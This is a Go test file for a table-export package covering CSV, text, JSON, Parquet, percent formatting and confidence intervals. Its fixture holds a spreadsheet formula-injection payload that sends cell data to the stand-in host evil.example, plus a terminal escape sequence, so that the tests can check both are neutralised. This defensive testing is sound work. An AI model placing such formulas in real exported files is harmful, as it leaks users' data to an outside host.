package analysis

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

// odd is a table of everything that may stand in one.
func odd() *Table {
	return &Table{
		Columns: []Column{{"issuer", Text}, {"n", Count}, {"share", Share}, {"mean", Number}, {"own", Flag}, {"at", Moment}, {"raw", Octets}, {"list", Nested}},
		Rows: [][]any{
			{`=HYPERLINK("http://evil.example/?"&A1)`, int64(3), 0.5, 1.25, true, time.Date(2026, 11, 1, 12, 0, 0, 0, time.UTC), []byte{0, 255}, `["-1","b"]`},
			{"-2+3 \x1b[31m", int64(-3), nil, nil, nil, nil, nil, nil},
			{"plain, \"quoted\"\nsecond line", int64(0), 0.0, 0.0, false, nil, []byte{}, `[]`},
			{nil, nil, 0.0001, nil, nil, nil, nil, nil},
		},
	}
}

func TestCSVDefusesFormulas(t *testing.T) {
	var b strings.Builder
	if err := odd().WriteCSV(&b); err != nil {
		t.Fatal(err)
	}
	got, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"issuer", "n", "share", "mean", "own", "at", "raw", "list"},
		{`'=HYPERLINK("http://evil.example/?"&A1)`, "3", "0.5", "1.25", "true", "2026-11-01T12:00:00Z", `\000\255`, `["-1","b"]`},
		{"'-2+3 \x1b[31m", "-3", "", "", "", "", "", ""},
		{"plain, \"quoted\"\nsecond line", "0", "0", "0", "false", "", "", "[]"},
		{"", "", "0.0001", "", "", "", "", ""},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
}

func TestTextSteersNoTerminal(t *testing.T) {
	var b strings.Builder
	if err := odd().WriteText(&b); err != nil {
		t.Fatal(err)
	}
	if strings.ContainsAny(b.String(), "\x1b\x00") {
		t.Errorf("control characters in %q", b.String())
	}
	lines := strings.Split(strings.TrimSpace(b.String()), "\n")
	if len(lines) != 2+len(odd().Rows) {
		t.Errorf("%d lines:\n%s", len(lines), b.String())
	}
	if !strings.Contains(lines[2], "50.0 %") || !strings.Contains(lines[5], "0.01 %") {
		t.Errorf("shares:\n%s", b.String())
	}
}

func TestJSONIsOneObjectALine(t *testing.T) {
	var b strings.Builder
	if err := odd().WriteJSON(&b); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(b.String()), "\n")
	want := `{"issuer":"-2+3 \u001b[31m","n":-3,"share":null,"mean":null,"own":null,"at":null,"raw":null,"list":null}`
	if len(lines) != 4 || lines[1] != want {
		t.Errorf("got %q", lines)
	}
	if !strings.HasSuffix(lines[0], `"list":["-1","b"]}`) {
		t.Errorf("a list is not JSON: %s", lines[0])
	}
}

// TestParquetIsReadBack reads a table back with DuckDB.
func TestParquetIsReadBack(t *testing.T) {
	table := odd()
	path := filepath.Join(t.TempDir(), "odd.parquet")
	if err := table.WriteParquet(path); err != nil {
		t.Fatal(err)
	}
	d := openOne(t)
	got, err := d.Select(t.Context(), "SELECT * FROM read_parquet($1)", path)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(table.Rows, got.Rows); diff != "" {
		t.Error(diff)
	}
	if left, _ := filepath.Glob(path + ".*"); len(left) != 0 {
		t.Errorf("left: %q", left)
	}
	if err := table.WriteParquet(filepath.Join(path, "nowhere")); err == nil {
		t.Error("written into a file as if it were a directory")
	}
	if _, err := os.Stat(path); err != nil {
		t.Error(err)
	}
}

func TestPercent(t *testing.T) {
	for share, want := range map[float64]string{0: "0.0 %", 1: "100.0 %", 0.5: "50.0 %", 0.0004: "0.04 %", 0.00001: "0.001 %", 0.99999: "99.999 %", 1e-9: "0.0000 %"} {
		if got := Percent(share); got != want {
			t.Errorf("%v: %s, want %s", share, got, want)
		}
	}
}

// TestInterval holds intervals against values published with the method: Newcombe, Statistics in Medicine 17 (1998), table I.
func TestInterval(t *testing.T) {
	for _, c := range []struct {
		n, of     int64
		low, high float64
	}{{81, 263, 0.2553, 0.3662}, {15, 148, 0.0624, 0.1605}, {0, 20, 0, 0.1611}, {1, 29, 0.0061, 0.1718}, {29, 29, 0.8830, 1}} {
		low, high := interval(c.n, c.of)
		if diff := max(abs(low.(float64)-c.low), abs(high.(float64)-c.high)); diff > 0.00005 {
			t.Errorf("%d of %d: %v to %v, want %v to %v", c.n, c.of, low, high, c.low, c.high)
		}
	}
	if low, high := interval(int64(0), int64(0)); low != nil || high != nil {
		t.Error("an interval of nothing")
	}
}

func abs(f float64) float64 { return max(f, -f) }
